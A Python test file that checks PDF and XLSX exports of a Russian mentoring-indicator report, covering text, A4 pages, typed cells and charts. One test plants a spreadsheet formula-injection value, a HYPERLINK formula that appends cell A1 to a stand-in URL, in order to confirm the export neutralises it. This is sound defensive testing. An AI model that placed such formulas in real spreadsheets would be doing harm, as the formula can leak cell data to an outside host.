"""The «отчёт куратора» files: a Russian A4 PDF with charts, an XLSX with typed cells and charts."""

import datetime
import io
import subprocess

import pytest
from openpyxl import load_workbook

from config.spreadsheet import safe_cell
from indicators import exports
from indicators.builder import indicator_report
from indicators.models import PracticePresentation
from tests.indicators.conftest import NOW, PERIOD
from tests.pdf_text import needs_pdftotext, pdf_text


@pytest.fixture
def report(world, municipality):
    return indicator_report(municipality, PERIOD, now=NOW)


@needs_pdftotext
def test_pdf_is_russian_on_a4_pages_with_every_indicator(report, tmp_path):
    content = exports.to_pdf(report)
    text = pdf_text(content, tmp_path)
    assert "Отчёт куратора: показатели наставничества" in text
    assert "Период: 01.01.2026 – 31.03.2026" in text
    assert "Предыдущий период для сравнения: 03.10.2025 – 31.12.2025" in text
    assert "Доля школ, внедривших целевую модель наставничества" in text
    assert "50,0 %: 2 из 4; предыдущий период — 25,0 %" in text
    assert "+25,0 п. п." in text
    assert "Посещаемость по месяцам" in text
    assert "Аксёнова Мария Петровна" in text  # the list behind a numerator
    assert "Муниципальный куратор" in text
    assert "Управление образования · Ханкайский муниципальный округ" in text
    assert "Самые трудные темы: средняя трудность (1–5)" in text
    assert "Оценивание" in text and "3,83" in text
    path = tmp_path / "report.pdf"
    path.write_bytes(content)
    info = subprocess.run(["pdfinfo", "-f", "1", "-l", "99", str(path)], check=True,
                          capture_output=True, text=True).stdout
    sizes = [line.split(":", 1)[1].strip() for line in info.splitlines()
             if line.startswith("Page") and "size:" in line]
    assert len(sizes) > 1 and set(sizes) == {"595.276 x 841.89 pts (A4)"}


def test_pdf_draws_charts_with_reportlab_graphics(report):
    flowables = exports._shares_chart(report, 500)
    assert [type(c).__name__ for c in flowables.contents][:1] == ["HorizontalBarChart"]


def test_xlsx_opens_with_typed_cells_and_native_charts(report):
    book = load_workbook(io.BytesIO(exports.to_xlsx(report)))
    assert book.sheetnames == ["Показатели", "Списки", "Посещаемость", "Трудные темы"]
    sheet = book["Показатели"]
    assert sheet["B2"].value == "Управление образования · Ханкайский муниципальный округ"
    assert sheet["B4"].value == datetime.datetime(2026, 1, 1)  # a date cell, not text
    assert sheet["B4"].is_date
    rows = {row[0]: row[1:] for row in sheet.iter_rows(min_row=8, max_row=16, values_only=True)}
    adopted = rows["Доля школ, внедривших целевую модель наставничества"]
    assert adopted == (2, 4, 0.5, 1, 4, 0.25, 25.0)
    assert sheet["D8"].number_format == "0.0%"
    assert rows["Удовлетворённость мероприятиями: оценки 4–5 из всех"][:3] == (11, 17, 11 / 17)
    assert len(sheet._charts) == 1
    attendance = book["Посещаемость"]
    months, satisfaction = attendance._charts
    assert [s.val.numRef.f for s in months.series] == [
        "'Посещаемость'!$B$2:$B$3", "'Посещаемость'!$C$2:$C$3"]
    assert attendance["A5"].value == "Мероприятие"
    [share] = satisfaction.series
    assert share.val.numRef.f == "'Посещаемость'!$D$6:$D$7"
    assert attendance["D6"].value == pytest.approx(9 / 12)
    lists = list(book["Списки"].iter_rows(min_row=2, values_only=True))
    assert ("Доля школ, представивших наставнические практики", "МБОУ СОШ A") == lists[
        [r[0] for r in lists].index("Доля школ, представивших наставнические практики")][:2]


def test_xlsx_neutralises_formulas_in_curator_text(report, world):
    PracticePresentation.objects.create(
        organisation=world.schools["A"], title='=HYPERLINK("http://x/?"&A1)\x0b',
        level="school", presented_on=datetime.date(2026, 2, 2))
    text = indicator_report(world.schools["A"].municipality, PERIOD, now=NOW)
    book = load_workbook(io.BytesIO(exports.to_xlsx(text)))
    details = [row[2] for row in book["Списки"].iter_rows(min_row=2, values_only=True)]
    detail = next(d for d in details if "HYPERLINK" in d)
    assert detail == safe_cell(detail) and "\x0b" not in detail
    assert not any(str(d).startswith("=") for d in details)


def test_xlsx_hardest_topics_sheet_charts_the_shown_topics(report):
    book = load_workbook(io.BytesIO(exports.to_xlsx(report)))
    sheet = book["Трудные темы"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert rows == [("Оценивание", 6, 3.83, 0.6667), ("Дисциплина", 6, 2.0, 0.0),
                    ("Документация", 3, "скрыто", "скрыто")]
    assert sheet["C2"].number_format == "0.00" and sheet["D2"].number_format == "0.0%"
    [chart] = sheet._charts
    [series] = chart.series
    # The two shown topics only: the hidden one has no figure to draw.
    assert series.val.numRef.f == "'Трудные темы'!$C$2:$C$3"
    assert (series.cat.numRef or series.cat.strRef).f == "'Трудные темы'!$A$2:$A$3"


def test_department_the_curator_named_heads_the_report(world, municipality, tmp_path):
    municipality.department = "Управление образования администрации Ханкайского округа"
    municipality.save()
    named = indicator_report(municipality, PERIOD, now=NOW)
    book = load_workbook(io.BytesIO(exports.to_xlsx(named)))
    assert book["Показатели"]["B2"].value == municipality.department
